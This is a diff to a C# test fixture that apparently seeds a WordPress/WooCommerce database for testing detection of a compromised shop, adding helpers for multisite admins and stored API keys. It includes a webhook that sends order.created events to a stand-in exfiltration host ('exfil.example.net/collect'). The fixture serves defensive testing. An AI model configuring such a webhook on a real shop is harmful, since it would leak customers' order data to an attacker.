@@ -72,19 +72,7 @@ public sealed class WooCommerceDetectionShop : IAsyncLifetime
         await wp.UserAsync(10, "eddie", T.AddDays(2).UtcDateTime, Capabilities("editor"));
 
         // A multisite network keeps its super admins by login; nora has no role of note on this site.
-        await Database.ExecuteAsync($"""
-            CREATE TABLE `{Prefix}sitemeta` (
-              meta_id bigint(20) unsigned NOT NULL AUTO_INCREMENT,
-              site_id bigint(20) unsigned NOT NULL DEFAULT 0,
-              meta_key varchar(255) DEFAULT NULL,
-              meta_value longtext,
-              PRIMARY KEY (meta_id),
-              KEY meta_key (meta_key(191)),
-              KEY site_id (site_id)
-            ) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_unicode_520_ci
-            """);
-        await Database.ExecuteAsync($"INSERT INTO `{Prefix}sitemeta` (site_id, meta_key, meta_value) VALUES (1, 'site_admins', @admins)",
-            ("@admins", PhpSerializer.Serialize(PhpArray.List("nora"))));
+        await wp.SiteMetaAsync("site_admins", PhpSerializer.Serialize(PhpArray.List("nora")));
 
         await wp.WebhookAsync(1, "ERP", "active", "order.created", "https://erp.shop.example/hook", 1, new DateTime(2025, 2, 1));
         await wp.WebhookAsync(2, "Order sync", "active", "order.created", "https://exfil.example.net/collect", 4, ExfilWebhookCreated.UtcDateTime);
@@ -149,6 +137,23 @@ public sealed class WordPressRows(ShopDatabase database, string prefix)
         }
     }
 
+    /// <summary>Adds a network option to <c>{prefix}sitemeta</c> (site 1), creating the table as a multisite install has it.</summary>
+    public async Task SiteMetaAsync(string key, string value)
+    {
+        await database.ExecuteAsync($"""
+            CREATE TABLE IF NOT EXISTS `{prefix}sitemeta` (
+              meta_id bigint(20) unsigned NOT NULL AUTO_INCREMENT,
+              site_id bigint(20) unsigned NOT NULL DEFAULT 0,
+              meta_key varchar(255) DEFAULT NULL,
+              meta_value longtext,
+              PRIMARY KEY (meta_id),
+              KEY meta_key (meta_key(191)),
+              KEY site_id (site_id)
+            ) ENGINE=InnoDB DEFAULT CHARSET=utf8mb4 COLLATE=utf8mb4_unicode_520_ci
+            """);
+        await database.ExecuteAsync($"INSERT INTO `{prefix}sitemeta` (site_id, meta_key, meta_value) VALUES (1, @key, @value)", ("@key", key), ("@value", value));
+    }
+
     public Task MetaAsync(long userId, string key, string value) =>
         database.ExecuteAsync($"INSERT INTO `{prefix}usermeta` (user_id, meta_key, meta_value) VALUES (@user, @key, @value)",
             ("@user", userId), ("@key", key), ("@value", value));
@@ -165,6 +170,14 @@ public sealed class WordPressRows(ShopDatabase database, string prefix)
             VALUES (@id, @user, @description, @permissions, SHA2(@id, 256), CONCAT('cs_', SHA1(@id)), @truncated, @access)
             """, ("@id", id), ("@user", userId), ("@description", description), ("@permissions", permissions), ("@truncated", truncatedKey),
             ("@access", lastAccessLocal));
+
+    /// <summary>An API key as WooCommerce stores it: the consumer key as its wc_api_hash, the secret in plain text, the key's last 7 characters.</summary>
+    public Task LeakableApiKeyAsync(long id, long userId, string description, string permissions, string consumerKey, string consumerSecret) =>
+        database.ExecuteAsync($"""
+            INSERT INTO `{prefix}woocommerce_api_keys` (key_id, user_id, description, permissions, consumer_key, consumer_secret, truncated_key)
+            VALUES (@id, @user, @description, @permissions, @key, @secret, @truncated)
+            """, ("@id", id), ("@user", userId), ("@description", description), ("@permissions", permissions),
+            ("@key", Containment.WordPressShop.WcApiHash(consumerKey)), ("@secret", consumerSecret), ("@truncated", consumerKey[^7..]));
 
     public Task ActionAsync(long id, string hook, string status, DateTime scheduledUtc, string args) =>
         database.ExecuteAsync($"""
